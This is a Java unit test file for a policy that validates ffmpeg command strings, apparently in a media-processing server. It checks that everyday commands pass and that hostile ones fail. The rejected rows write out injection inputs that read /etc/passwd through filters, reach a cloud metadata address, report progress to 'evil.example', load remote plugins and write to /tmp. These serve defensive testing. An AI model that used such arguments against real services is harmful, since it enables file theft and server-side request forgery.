package io.ffmpegoperator.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandPolicyTest {
  private static TaskCommand.Request spec(String command) {
    Map<String, String> inputs = new LinkedHashMap<>();
    inputs.put("in_1", "https://example.com/a.mp4");
    TaskCommand.Request spec = new TaskCommand.Request(command, inputs, Map.of("out_1", "out.mp4"));
    if (command.contains("parts")) {
      spec = spec.withConcatLists(Map.of("parts", List.of("in_1", "in_1")));
    }
    return spec;
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "-i in_1 -c:v libx264 -crf 23 out_1",
        "-y -hide_banner -loglevel error -i in_1 -vf scale=320:240 out_1",
        "-ss 1.5 -i in_1 -t 00:00:02.000 -map 0:v:0 -map 0:a:0? -c copy out_1",
        "-i in_1 -filter_complex [0:v]scale=320:-2,fps=10[v] -map [v] -an out_1",
        "-i in_1 -vf \"drawtext=text='hello world':x=10:y=10:fontsize=24\" out_1",
        "-i in_1 -vf fps=1,scale=160:-1 -frames:v 1 -f mp4 out_1",
        "-f concat -i parts -map 0 -c copy out_1",
        "-filter_complex color=c=black:s=320x240:d=2 -i in_1 -shortest out_1",
        "-i in_1 -metadata title=Holiday -metadata:s:a:0 language=eng out_1",
        "-i in_1 -c:v libx264 -preset veryfast -tune film -b:v 800k -maxrate 1M -bufsize 2M"
            + " -g 48 -pix_fmt yuv420p -c:a aac -b:a 128k -ac 2 -ar 44100"
            + " -movflags +faststart out_1",
        "-stream_loop 2 -i in_1 -af volume=0.5,atempo=1.25 -r 30000/1001 -s 640x360 out_1",
        "-i in_1 -vf \"select='eq(pict_type\\,I)'\" -fps_mode vfr out_1",
      })
  void commandsOfTheSeedsAndOfEverydayUseAreAllowed(String command) {
    assertThatCode(() -> TaskCommand.parse(spec(command), "media")).doesNotThrowAnyException();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        // Reading a file or URL of the pod into an output.
        "-f data -i in_1 out_1 | -f' is set by the server for inputs",
        "-f lavfi -i in_1 out_1 | is set by the server for inputs",
        "-i in_1 -vf movie=/etc/passwd out_1 | filter 'movie' is not allowed",
        "-i in_1 -af amovie=http://169.254.169.254/ out_1 | filter 'amovie' is not allowed",
        "-i in_1 -vf drawtext=textfile=/etc/passwd out_1 | may not set 'textfile'",
        "-i in_1 -vf drawtext=fontfile=/etc/passwd:text=x out_1 | may not set 'fontfile'",
        "-i in_1 -vf subtitles=/etc/passwd out_1 | filter 'subtitles' is not allowed",
        "-i in_1 -vf lut3d=file=/etc/passwd out_1 | filter 'lut3d' is not allowed",
        "-i in_1 -filter_complex_script /tmp/graph out_1 | '-filter_complex_script' is not allowed",
        "-i in_1 -/vf /tmp/graph out_1 | '-/vf' is not allowed",
        "-i in_1 -vf scale=1:1\\,movie=/etc/passwd out_1 | filter 'movie' is not allowed",
        "-i in_1 -vf 'scale=1:1\\,movie=/etc/passwd' out_1 | may not set",
        "-i in_1 -vf \"scale=2:2;movie=x\" out_1 | filter 'movie' is not allowed",
        // Writing outside the work folder.
        "-i in_1 -vstats_file /tmp/x out_1 | '-vstats_file' is not allowed",
        "-i in_1 -pass 1 -passlogfile /tmp/x out_1 | '-pass' is not allowed",
        "-i in_1 -f tee out_1 | output format that is not allowed",
        "-i in_1 -f hls out_1 | output format that is not allowed",
        "-i in_1 out_1 /tmp/extra.mp4 | files may only be named by input and output placeholders",
        "-i in_1 -c copy - out_1 | '-' is not allowed here",
        "-i in_1 -vf paletteuse=debug_kdtree=/tmp/k out_1 | may not set 'debug_kdtree'",
        "-i in_1 -c:v libx264 -x264-params stats=/tmp/x out_1 | '-x264-params' is not allowed",
        "-i in_1 -vf metadata=mode=print:file=/tmp/x out_1 | filter 'metadata' is not allowed",
        // Opening URLs even under a protocol whitelist.
        "-i in_1 -progress http://evil.example/ out_1 | '-progress' is not allowed",
        "-i in_1 -vf sendcmd=f=/tmp/cmds out_1 | filter 'sendcmd' is not allowed",
        "-i in_1 -vf zmq out_1 | filter 'zmq' is not allowed",
        "-i in_1 -af lv2=p=http://x/plugin out_1 | filter 'lv2' is not allowed",
        // Overriding what the server adds.
        "-protocol_whitelist http,file -i in_1 out_1 | '-protocol_whitelist' is not allowed",
        "-i in_1 -map_metadata 0 out_1 | '-map_metadata' is not allowed",
        "-max_pixels 999999999 -i in_1 out_1 | '-max_pixels' is not allowed",
        "-i in_1 -fs 99999999999 out_1 | '-fs' is not allowed",
        "-i in_1 -attach /etc/passwd out_1 | '-attach' is not allowed",
        "-dump_attachment:t /tmp/x -i in_1 out_1 | '-dump_attachment:t' is not allowed",
        "-stdin -i in_1 out_1 | '-stdin' is not allowed",
        "-loglevel debug -i in_1 out_1 | may only be quiet",
        // Never ending.
        "-filter_complex testsrc -i in_1 out_1 | needs a duration",
        "-filter_complex anullsrc -i in_1 -shortest out_1 | needs a duration",
        "-i in_1 -af apad out_1 | 'apad' needs pad_dur",
        "-i in_1 -vf loop=-1:1 out_1 | filter 'loop' is not allowed",
        "-stream_loop -1 -i in_1 out_1 | must be between 0 and 100",
        // Grammar.
        "-i in_1 out_1 -c copy | options after the last output have no effect",
        "-crf 20 -i in_1 out_1 | '-crf' may only be used before an output",
        "-i in_1 -ss abc out_1 | needs a time",
        "-i in_1 -map /etc/passwd out_1 | needs a stream",
        "-i in_1 -vf out_1 | '-vf' needs a value",
        "-i in_1 -vf 'scale=2:2,,' out_1 | is not a filter",
        "-i in_1 -vf \"scale='1:2\" out_1 | unclosed quote",
        "-threads 1000 -i in_1 out_1 | between 0 and 64",
      })
  void dangerousOrMalformedCommandsAreRefusedWithAReason(String row) {
    String command = row.substring(0, row.lastIndexOf(" | "));
    String reason = row.substring(row.lastIndexOf(" | ") + 3);
    assertThatThrownBy(() -> TaskCommand.parse(spec(command), "media"))
        .isInstanceOf(InvalidTaskException.class)
        .hasMessageContaining(reason);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "out.m3u8",
        "out.mpd",
        "out%03d.png",
        "..mp4",
        ".hidden.mp4",
        "a/b.mp4",
        "a\\b.mp4",
        "out\u2215x.mp4",
        "out\u202e4pm.exe",
        "out.mp4\n",
        "out",
        "list.txt",
      })
  void outputNamesArePlainMediaFileNames(String name) {
    TaskCommand.Request spec =
        new TaskCommand.Request(
            "-i in_1 out_1", Map.of("in_1", "https://example.com/a.mp4"), Map.of("out_1", name));
    assertThatThrownBy(() -> TaskCommand.parse(spec, "media"))
        .hasMessageContaining("output 'out_1': file name must be a plain name");
  }

  @ParameterizedTest
  @ValueSource(strings = {"out.mp4", "Clip_2.final.MKV", "thumb.jpg", "audio.m4a", "subs.vtt"})
  void plainMediaFileNamesAreFine(String name) throws Exception {
    TaskCommand.Request spec =
        new TaskCommand.Request(
            "-i in_1 out_1", Map.of("in_1", "https://example.com/a.mp4"), Map.of("out_1", name));
    assertThat(TaskCommand.parse(spec, "media").args()).hasSize(3);
  }
}
